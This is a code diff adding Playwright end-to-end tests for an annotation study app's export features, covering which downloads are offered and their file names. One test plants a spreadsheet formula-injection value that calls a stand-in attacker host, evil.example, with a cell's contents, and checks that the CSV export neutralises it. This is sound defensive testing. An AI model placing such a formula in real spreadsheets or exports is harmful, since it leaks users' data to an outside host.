@@ -1,5 +1,8 @@
-import { expect, test } from "@playwright/test";
+import { parse } from "csv-parse/sync";
+import { expect, test, type Download } from "@playwright/test";
 import { E2E_ACCOUNTS, signIn, testDb } from "./fixtures";
+
+const textOf = async (download: Download) => Buffer.concat(await (await download.createReadStream()).toArray()).toString("utf8");
 
 const line = (id: string, reviewText: string) =>
   JSON.stringify({
@@ -44,10 +47,62 @@ test("a lead previews an upload, sees every error of a bad file, imports a good 
   await page.getByRole("link", { name: /^JSONL/ }).click();
   const file = await download;
   expect(file.suggestedFilename()).toBe("upload-e2e.jsonl");
-  const text = await (await file.createReadStream()).toArray().then((chunks) => Buffer.concat(chunks).toString("utf8"));
-  const exported = text.trim().split("\n").map((l) => JSON.parse(l) as { id: string; reviews: unknown[] });
+  const exported = (await textOf(file)).trim().split("\n").map((l) => JSON.parse(l) as { id: string; reviews: unknown[] });
   expect(exported.map((e) => e.id).sort()).toEqual(["a", "b"]);
   expect(exported[0].reviews).toHaveLength(2);
+
+  // Nobody has annotated or graded: only the JSONL is offered, and the route refuses the others.
+  await expect(page.getByRole("link", { name: /CSV|JSONL$/ })).toHaveCount(0);
+  await expect(page.getByRole("form", { name: "GradedReviews workbook" })).toHaveCount(0);
+  await expect(page.getByTestId("exports-not-offered")).toContainText("once reviews are graded");
+  for (const format of ["long-csv", "gradedreviews"]) {
+    const refused = await page.request.get(`/api/studies/upload-e2e/export?format=${format}`);
+    expect(refused.status()).toBe(409);
+    expect((await refused.json()).error).toMatch(/^This study has no (annotations|reference grades) yet/);
+  }
+});
+
+test("the demo study's downloads have distinct names, and a note that starts a formula comes out of the long CSV as text", async ({ page }) => {
+  const db = testDb();
+  const study = await db.study.findUniqueOrThrow({ where: { slug: "demo" } });
+  const hyperlink = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
+  const judgement = await db.claimJudgement.findFirstOrThrow({ where: { pseudoReference: { codeChange: { studyId: study.id } } }, orderBy: { id: "asc" }, include: { annotator: true, pseudoReference: true } });
+  // A known answer (gold) on a review nobody decided, so the page offers the exports with gold items.
+  const decided = (await db.consensus.findMany({ where: { studyId: study.id }, select: { itemId: true } })).map((c) => c.itemId);
+  const review = await db.candidateReview.findFirstOrThrow({ where: { codeChange: { studyId: study.id }, isReference: false, id: { notIn: decided } }, orderBy: { id: "asc" } });
+  const lead = await db.user.findUniqueOrThrow({ where: { email: E2E_ACCOUNTS.lead.email } });
+  const gold = await db.consensus.create({ data: { studyId: study.id, task: "REFERENCE_GRADING", itemId: review.id, question: "grade", value: 3, decidedById: lead.id, gold: true } });
+  await db.claimJudgement.update({ where: { id: judgement.id }, data: { note: hyperlink } });
+  try {
+    await signIn(page, E2E_ACCOUNTS.lead);
+    await page.goto("/studies/demo");
+    const downloads: Record<string, Download> = {};
+    const links = page.getByLabel("Downloads").locator("a[download]");
+    for (let i = 0; i < (await links.count()); i++) {
+      const downloading = page.waitForEvent("download");
+      await links.nth(i).click();
+      const file = await downloading;
+      downloads[file.suggestedFilename()] = file;
+    }
+    const workbook = page.getByRole("form", { name: "GradedReviews workbook" });
+    for (const withGold of [false, true]) {
+      await workbook.getByLabel("with gold items").setChecked(withGold);
+      const downloading = page.waitForEvent("download");
+      await workbook.getByRole("button", { name: "Download" }).click();
+      const file = await downloading;
+      downloads[file.suggestedFilename()] = file;
+    }
+    expect(Object.keys(downloads)).toEqual(["demo.jsonl", "demo.long.csv", "demo.long.jsonl", "demo.wide.csv", "demo.wide.jsonl", "demo.long.gold.csv", "demo.gradedreviews.xlsx", "demo.gradedreviews.gold.xlsx"]);
+
+    const rows = parse(await textOf(downloads["demo.long.csv"]), { columns: true }) as Record<string, string>[];
+    const note = rows.find((r) => r.annotatorId === judgement.annotatorId && r.item === judgement.pseudoReference.externalId && r.question === "note");
+    expect(note).toMatchObject({ value: `'${hyperlink}`, itemText: judgement.pseudoReference.text });
+    const jsonl = (await textOf(downloads["demo.long.jsonl"])).trimEnd().split("\n").map((line) => JSON.parse(line) as Record<string, unknown>);
+    expect(jsonl.find((r) => r.annotatorId === judgement.annotatorId && r.item === judgement.pseudoReference.externalId && r.question === "note")).toMatchObject({ value: hyperlink });
+  } finally {
+    await db.claimJudgement.update({ where: { id: judgement.id }, data: { note: judgement.note } });
+    await db.consensus.delete({ where: { id: gold.id } });
+  }
 });
 
 test("an annotator can neither import nor export", async ({ page }) => {
